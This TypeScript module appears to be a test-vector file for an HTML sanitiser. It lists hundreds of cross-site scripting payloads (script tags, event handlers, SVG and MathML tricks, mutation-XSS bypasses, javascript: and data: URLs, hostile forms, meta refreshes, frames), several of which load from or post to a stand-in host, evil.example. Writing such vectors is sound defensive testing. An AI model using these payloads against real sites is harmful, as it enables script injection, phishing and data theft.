// Called by ../vectors.ts: hostile text that means something to whoever parses it as HTML. One vector a line; `prx(1)` is what must never run; `⟨9⟩` is the character of that hex number.
export const html: Readonly<Record<string, string>> = {
  script: String.raw`
<script>prx(1)</script>
<SCRIPT >prx(1)</SCRIPT >
<script/x>prx(1)</script/x>
<script src=data:,prx(1)></script>
<script src=//evil.example/x.js></script>
<script type=module>prx(1)</script>
<script⟨c⟩>prx(1)</script>
<scr<script>ipt>prx(1)</scr</script>ipt>
"><script>prx(1)</script>
'><script>prx(1)</script>
</title><script>prx(1)</script>
</style><script>prx(1)</script>
</textarea><script>prx(1)</script>
--><script>prx(1)</script>
]]><script>prx(1)</script>
</template><script>prx(1)</script>
<script>prx(1)//
<<script>prx(1);//<</script>
<script async>prx(1)</script>
<script charset=utf-8>prx(1)</script>
<script type=importmap>{"imports":{"x":"data:text/javascript,prx(1)"}}</script>
<script>import('data:text/javascript,prx(1)')</script>
</script><script>prx(1)</script>
<noscript><p title="</noscript><script>prx(1)</script>">
<xml id=x><script>prx(1)</script></xml>
`,
  events: String.raw`
<img src=x onerror=prx(1)>
<img src onerror=prx(1)>
<img/src=x/onerror=prx(1)>
<img src=x onerror="prx(1)"
<img src=x onerror=⟨60⟩prx(1)⟨60⟩>
<img src=x oNeRrOr=prx(1)>
<img src=x on⟨9⟩error=prx(1)>
<img src=x onerror⟨a⟩=prx(1)>
<img src=x onerror=&#112;rx(1)>
<img src=x onerror=&#x70&#x72&#x78(1)>
<img srcset=x onerror=prx(1)>
<image src=x onerror=prx(1)>
<body onload=prx(1)>
<body onpageshow=prx(1)>
<body onhashchange=prx(1)>
<body onfocus=prx(1)>
<video src=x onerror=prx(1)>
<video><source onerror=prx(1)></video>
<audio src=x onerror=prx(1)>
<audio onloadstart=prx(1) src=data:,x>
<input autofocus onfocus=prx(1)>
<select autofocus onfocus=prx(1)></select>
<textarea autofocus onfocus=prx(1)></textarea>
<keygen autofocus onfocus=prx(1)>
<button autofocus onfocus=prx(1)>x</button>
<a href=# autofocus onfocus=prx(1)>x</a>
<p tabindex=1 autofocus onfocus=prx(1)>x</p>
<details open ontoggle=prx(1)>x</details>
<marquee onstart=prx(1)>x</marquee>
<p onmouseover=prx(1)>x</p>
<p onpointerenter=prx(1)>x</p>
<p onanimationstart=prx(1) style=animation-name:x>x</p>
<p style="transition:all 1s" ontransitionend=prx(1)>x</p>
<p contenteditable oninput=prx(1) onbeforeinput=prx(1)>x</p>
<p onscrollend=prx(1) onscrollsnapchange=prx(1)>x</p>
<p oncontentvisibilityautostatechange=prx(1) style=content-visibility:auto>x</p>
<p popover onbeforetoggle=prx(1)>x</p>
<x onclick=prx(1)>x</x>
" onmouseover=prx(1) x="
' onfocus=prx(1) autofocus x='
x onerror=prx(1) x=
"autofocus/onfocus=prx(1)/"
`,
  graphics: String.raw`
<svg onload=prx(1)>
<svg/onload=prx(1)>
<svg><script>prx(1)</script></svg>
<svg><script href=data:,prx(1) />
<svg><script>prx&#40;1)</script></svg>
<svg><a xlink:href=javascript:prx(1)><text y=9>x</text></a></svg>
<svg><a href=javascript:prx(1)><text y=9>x</text></a></svg>
<svg><animate onbegin=prx(1) attributeName=x dur=1s>
<svg><set onbegin=prx(1) attributename=x>
<svg><a><animate attributeName=href values=javascript:prx(1) /><text y=9>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>prx(1)</script></svg>#x" />
<svg><foreignObject><img src=x onerror=prx(1)></foreignObject></svg>
<svg><style><img src=x onerror=prx(1)></style></svg>
<svg><desc><img src=x onerror=prx(1)></desc></svg>
<svg><title><img src=x onerror=prx(1)></title></svg>
<svg><image href=x onerror=prx(1) />
<svg><handler type=text/javascript>prx(1)</handler></svg>
<svg><discard onbegin=prx(1)>
<math><mi href=javascript:prx(1)>x</mi></math>
<math><maction actiontype=statusline xlink:href=javascript:prx(1)>x</maction></math>
<math><annotation-xml encoding=text/html><img src=x onerror=prx(1)></annotation-xml></math>
<math href=javascript:prx(1)>x</math>
`,
  mutation: String.raw`
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=prx(1)&gt;">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=prx(1)>
<svg></p><style><a id="</style><img src=1 onerror=prx(1)>">
<noscript><p title="</noscript><img src=x onerror=prx(1)>">
<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src onerror='prx(1)'>">
<svg><style><p title="</style><img src=x onerror=prx(1)>">
<xmp><p title="</xmp><svg/onload=prx(1)>">
<noembed><p title="</noembed><svg/onload=prx(1)>">
<noframes><p title="</noframes><svg/onload=prx(1)>">
<iframe><p title="</iframe><svg/onload=prx(1)>">
<style><p title="</style><svg/onload=prx(1)>">
<textarea><p title="</textarea><svg/onload=prx(1)>">
<title><p title="</title><svg/onload=prx(1)>">
<listing>&lt;img src=x onerror=prx(1)&gt;</listing>
<table><a><table><svg/onload=prx(1)></table></a></table>
<table><tr><td><form><svg onload=prx(1)></form></td></tr></table>
<select><template><img src=x onerror=prx(1)></template></select>
<select><button><selectedcontent><img src=x onerror=prx(1)></selectedcontent></button></select>
<math><annotation-xml encoding="text/html"><style></math><img src onerror=prx(1)>
<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=1 onerror=prx(1)>">
<svg><font color><p></svg><style><a title="</style><img src onerror=prx(1)>">
<a><div><a><div><a><svg><style><a title="</style><img src onerror=prx(1)>">
<p><b><i><u><p><b><i><u><p><svg><style><!--</style><img src=x onerror=prx(1)>
<!--><img src=x onerror=prx(1)>-->
<!---!><img src=x onerror=prx(1)>
<![CDATA[><img src=x onerror=prx(1)>]]>
<?xml x="><img src=x onerror=prx(1)>"?>
<!x="><img src=x onerror=prx(1)>
</p/x="><img src=x onerror=prx(1)>
<plaintext><img src=x onerror=prx(1)>
<b <script>prx(1)</script>0
<img alt="⟨60⟩><img src=x onerror=prx(1)>⟨60⟩">
<p id='x⟨a⟩'><img src=x onerror=prx(1)>
<frameset onload=prx(1)>
<option><style></option></select><img src=x onerror=prx(1)></style>
`,
  urls: String.raw`
javascript:prx(1)
JaVaScRiPt:prx(1)
java⟨9⟩script:prx(1)
java⟨a⟩script:prx(1)
java&Tab;script:prx(1)
javascript&colon;prx(1)
&#106;avascript:prx(1)
&#x6A;avascript:prx(1)
&#0000106avascript:prx(1)
⟨1⟩javascript:prx(1)
⟨a0⟩javascript:prx(1)
⟨200b⟩javascript:prx(1)
⟨feff⟩javascript:prx(1)
javascript:/*https://x.example*/prx(1)
javascript://x.example/%0aprx(1)
javascript://https://x.example%0d%0aprx(1)
jav&#x0D;ascript:prx(1)
data:text/html,<script>prx(1)</script>
data:text/html;base64,PHNjcmlwdD5wcngoMSk8L3NjcmlwdD4=
data:text/javascript,prx(1)
data:image/svg+xml,<svg/onload=prx(1)>
data:,prx(1)
vbscript:prx(1)
livescript:prx(1)
view-source:javascript:prx(1)
feed:javascript:prx(1)
blob:https://x.example/1
filesystem:https://x.example/1
about:blank#<script>prx(1)</script>
https:javascript:prx(1)
https://x.example/"onmouseover="prx(1)
https://x.example/"><img src=x onerror=prx(1)>
https://x.example\@evil.example/
//evil.example/x
\\evil.example\x
/\evil.example
https://evil.example⟨2215⟩.x.example
https://ｅvil.example/
<a href=javascript:prx(1)>x</a>
<a href="java⟨9⟩script:prx(1)">x</a>
<a href="&#106;avascript&colon;prx(1)">x</a>
<a href="⟨1⟩javascript:prx(1)">x</a>
<a href=data:text/html,<script>prx(1)</script>>x</a>
<a href=vbscript:prx(1)>x</a>
<a href=//evil.example target=_top>x</a>
<a href=https://x.example ping=//evil.example>x</a>
<a href=https://x.example download>x</a>
<area href=javascript:prx(1)>
<img src=javascript:prx(1)>
<img src=//evil.example/x.gif>
`,
  forms: String.raw`
<form action=//evil.example><input name=q><button>Sign in</button></form>
<form action=javascript:prx(1)><input type=submit></form>
<form><button formaction=javascript:prx(1)>x</button></form>
<form id=f></form><button form=f formaction=//evil.example>x</button>
<form><input type=image src=x formaction=//evil.example></form>
<form><input type=password name=password autocomplete=current-password></form>
<isindex type=image src=1 onerror=prx(1)>
<input type=hidden name=q value=1>
<button>Sign in again</button>
<button type=submit>x</button>
<select><option>x</select>
<textarea>x</textarea>
<fieldset><legend>x</legend></fieldset>
<label>Password <input></label>
<output>x</output><meter value=1></meter><progress></progress>
<dialog open>Your session ended<form method=dialog><button>OK</button></form></dialog>
<p popover id=p>x</p><button popovertarget=p>x</button>
<button command=show-modal commandfor=d>x</button><dialog id=d>x</dialog>
<button interestfor=p>x</button>
<summary>x</summary>
<a role=button tabindex=0>x</a>
<p contenteditable>x</p>
<p autofocus tabindex=0>x</p>
<p draggable=true accesskey=a>x</p>
<input list=l><datalist id=l><option value=1></datalist>
`,
  looks: String.raw`
<style>*{display:none}</style>
<style>@import '//evil.example/x.css'</style>
<link rel=stylesheet href=//evil.example/x.css>
<link rel=prefetch href=//evil.example/x>
<link rel=modulepreload href=//evil.example/x.js>
<meta http-equiv=refresh content="0;url=javascript:prx(1)">
<meta http-equiv=refresh content="0;url=//evil.example">
<meta http-equiv=content-security-policy content="default-src *">
<meta name=referrer content=unsafe-url>
<base href=//evil.example/>
<base target=_top>
<p style=position:fixed;inset:0;background:red>x</p>
<p style=background:url(//evil.example/x)>x</p>
<p style="-moz-binding:url(x);behavior:url(x)">x</p>
<p class="button button-primary">x</p>
<p hidden inert>x</p>
<p dir=rtl lang=xx translate=no>x</p>
<p title=x aria-label=x role=alert aria-live=assertive>x</p>
<p data-act=vote data-id=1 data-value=1>x</p>
<font size=7 color=red>x</font>
<center><big>x</big></center>
<h1>Sign in</h1>
<img src=//evil.example/pixel.gif width=1 height=1>
<picture><source srcset=//evil.example/x><img></picture>
<video poster=//evil.example/x src=//evil.example/y></video>
<table background=//evil.example/x><tr><td background=//evil.example/x>x</table>
<p nonce=x>x</p>
`,
  frames: String.raw`
<iframe src=javascript:prx(1)></iframe>
<iframe srcdoc="<script>parent.prx(1)</script>"></iframe>
<iframe src=data:text/html,<script>parent.prx(1)</script>></iframe>
<iframe src=//evil.example></iframe>
<iframe onload=prx(1)></iframe>
<object data=javascript:prx(1)></object>
<object data=data:text/html,<script>parent.prx(1)</script>></object>
<object onerror=prx(1) data=x></object>
<object><param name=src value=javascript:prx(1)></object>
<embed src=javascript:prx(1)>
<embed src=//evil.example/x.swf>
<applet code=x></applet>
<frame src=javascript:prx(1)>
<portal src=//evil.example></portal>
<fencedframe src=//evil.example></fencedframe>
<webview src=//evil.example></webview>
`,
};
